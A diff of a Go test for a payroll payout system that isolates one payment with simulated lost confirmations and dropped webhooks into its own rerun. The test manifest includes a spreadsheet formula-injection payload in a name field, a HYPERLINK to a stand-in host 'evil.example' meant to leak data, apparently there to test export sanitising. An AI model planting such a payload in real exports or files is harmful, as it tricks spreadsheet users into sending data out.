@@ -151,13 +151,8 @@ func everyOutcome(t *testing.T) (*harness, *ledgerClock, string) {
 	if _, err := batch.Reject(ctx, h.db, h.client, id, settle); err != nil {
 		t.Fatal(err)
 	}
-	// 3. ...and pays most of it again with a rerun of a subset. PAY-UNKNOWN's
-	// confirm is applied at Pike but its answer is lost, its status calls
-	// fail and its payment_finished webhook is dropped: unknown at exit.
+	// 3. ...and pays most of it again with a rerun of a subset.
 	clock.set(time.Date(2025, 11, 29, 10, 0, 0, 0, time.UTC))
-	h.sb.Inject(sandbox.Rule{Method: pike.MethodConfirm, Reference: "PAY-UNKNOWN", Fault: sandbox.FaultDropAfterApply})
-	h.sb.Inject(sandbox.Rule{Method: pike.MethodStatus, Reference: "PAY-UNKNOWN", Fault: sandbox.FaultFailBeforeApply, Times: 1 << 30})
-	h.sb.Inject(sandbox.Rule{Method: pike.WebhookPaymentFinished, Reference: "PAY-UNKNOWN", Fault: sandbox.FaultDropWebhook})
 	subset := h.manifest("payroll-rerun.csv",
 		row{ref: "PAY-01", amount: "1500.50", card: sandbox.CardMir, name: "Иванов Иван Иванович"},
 		row{ref: "PAY-02", amount: "2 000,00", card: sandbox.CardVisa, name: `=HYPERLINK("http://evil.example/?leak=1","Click me")`},
@@ -167,14 +162,26 @@ func everyOutcome(t *testing.T) (*harness, *ledgerClock, string) {
 		row{ref: "PAY-06", amount: "1500", currency: "JPY", card: sandbox.CardVisa, name: "\tTab Leading"},
 		row{ref: "PAY-NOCARD", amount: "100", card: sandbox.CardNotExist, name: "Новикова Татьяна"},
 		row{ref: "PAY-ERR", amount: "100", card: sandbox.CardSessionError, name: "Фёдорова Ксения"},
-		row{ref: "PAY-UNKNOWN", amount: "333.33", card: sandbox.CardVisa, name: "Козлов Артём"},
 		row{ref: "PAY-AMOUNT", amount: "400", card: sandbox.CardMir, name: "Лебедев Никита"},
 	)
-	rerun := settle
-	rerun.Wait = 1500 * time.Millisecond // PAY-UNKNOWN never resolves; the others take milliseconds
-	if _, _, err := batch.Rerun(ctx, h.db, h.client, batch.RerunOptions{BatchID: id, Manifest: subset, SettleOptions: rerun}); err != nil {
+	if _, _, err := batch.Rerun(ctx, h.db, h.client, batch.RerunOptions{BatchID: id, Manifest: subset, SettleOptions: settle}); err != nil {
 		t.Fatal(err)
 	}
+	// PAY-UNKNOWN alone: its confirm is applied at Pike but the answer is
+	// lost, its status calls fail and its payment_finished webhook is
+	// dropped. The rerun gives up waiting with the row unknown.
+	h.sb.Inject(sandbox.Rule{Method: pike.MethodConfirm, Reference: "PAY-UNKNOWN", Fault: sandbox.FaultDropAfterApply})
+	h.sb.Inject(sandbox.Rule{Method: pike.MethodStatus, Reference: "PAY-UNKNOWN", Fault: sandbox.FaultFailBeforeApply, Times: 1 << 30})
+	h.sb.Inject(sandbox.Rule{Method: pike.WebhookPaymentFinished, Reference: "PAY-UNKNOWN", Fault: sandbox.FaultDropWebhook})
+	one := h.manifest("payroll-unknown.csv", row{ref: "PAY-UNKNOWN", amount: "333.33", card: sandbox.CardVisa, name: "Козлов Артём"})
+	short := settle
+	short.Wait = time.Second // the row never resolves: the rerun gives up
+	if _, _, err := batch.Rerun(ctx, h.db, h.client, batch.RerunOptions{BatchID: id, Manifest: one, SettleOptions: short}); err != nil {
+		t.Fatal(err)
+	}
+	// On a loaded machine the rerun may give up before the confirm went
+	// out; `payouts serve` carries the row on until its outcome is unknown.
+	serve(t, h, id, "PAY-UNKNOWN", ledger.StateUnknown)
 	// 4. PAY-LATER is planned for a new attempt that was never sent (as
 	// after a rerun interrupted before its first call).
 	later := h.row(id, "PAY-LATER")
